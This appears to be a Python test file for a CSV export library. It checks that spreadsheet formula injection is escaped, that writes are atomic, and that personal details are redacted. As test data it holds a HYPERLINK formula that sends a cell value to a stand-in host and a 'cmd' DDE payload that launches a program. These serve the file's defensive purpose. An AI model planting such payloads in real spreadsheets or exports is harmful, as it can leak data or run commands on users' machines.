"""CSV exports: formula injection neutralised, numbers kept, written atomically; raw values made readable."""

from __future__ import annotations

import csv
import os
import stat

import pandas as pd
import pytest

from carelib.errors import ParameterError
from carelib.exports import neutralise, readable, to_csv
from carelib.text.redact import Redactor

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Plus")', "+SUM(1,1)", "-2+3", "@cmd", "\tTAB", "\r=1"]


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_every_formula_start_is_neutralised_and_numbers_survive(tmp_path):
    frame = pd.DataFrame({"segment": HOSTILE, "n": range(len(HOSTILE)),
                          "text": ["-12.5", "+44", "North", "a=b", "-", "1e5"]})
    before = frame.copy()
    rows = _rows(to_csv(frame, tmp_path / "out.csv"))
    pd.testing.assert_frame_equal(frame, before)  # input untouched
    assert rows[0] == ["segment", "n", "text"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(HOSTILE))]
    # plain numbers as text stay numbers; text not starting a formula is untouched; a lone "-" is not a number
    assert [r[2] for r in rows[1:]] == ["-12.5", "+44", "North", "a=b", "'-", "1e5"]
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r") and c not in ("+44",)]


def test_header_index_and_numeric_columns(tmp_path):
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [-3.5, 2.0]}, index=pd.Index(["@x", "ok"], name="who"))
    rows = _rows(to_csv(frame, tmp_path / "out.csv", index=True))
    assert rows == [["who", "'=cmd|' /C calc'!A0"], ["'@x", "-3.5"], ["ok", "2.0"]]
    assert neutralise(-3) == -3 and neutralise(None) is None


def test_write_is_atomic_and_readable_by_others(tmp_path):
    target = tmp_path / "sub" / "out.csv"
    to_csv(pd.DataFrame({"a": [1]}), target)
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o644
    old = target.read_text(encoding="utf-8")

    class Boom:
        def __str__(self):
            raise RuntimeError("boom while writing")

    with pytest.raises(RuntimeError, match="boom"):
        to_csv(pd.DataFrame({"a": [Boom()]}), target)
    assert target.read_text(encoding="utf-8") == old  # the old file stays whole
    assert sorted(p.name for p in target.parent.iterdir()) == ["out.csv"]  # no temp file left behind
    with pytest.raises(ParameterError, match="mode"):
        to_csv(pd.DataFrame({"a": [1]}), target, mode="a")


def test_readable_redacts_before_cutting():
    frame = pd.DataFrame({"row": [2, 3, 4], "found": ["Ruth Okafor: ruth.okafor@example.org, please call back today",
                                                      None, "4111 1111 1111 1111"]})
    out = readable(frame, ["found"], Redactor(["Ruth Okafor"]).redact, max_chars=40)
    assert out["found"].iloc[0] == "Customer A: [email], please call back…"
    assert pd.isna(out["found"].iloc[1]) and out["found"].iloc[2] == "[card]"
    assert len(out["found"].iloc[0]) <= 40
    assert frame["found"].iloc[0].startswith("Ruth")  # input untouched
    with pytest.raises(ParameterError, match="nope"):
        readable(frame, ["nope"], str)
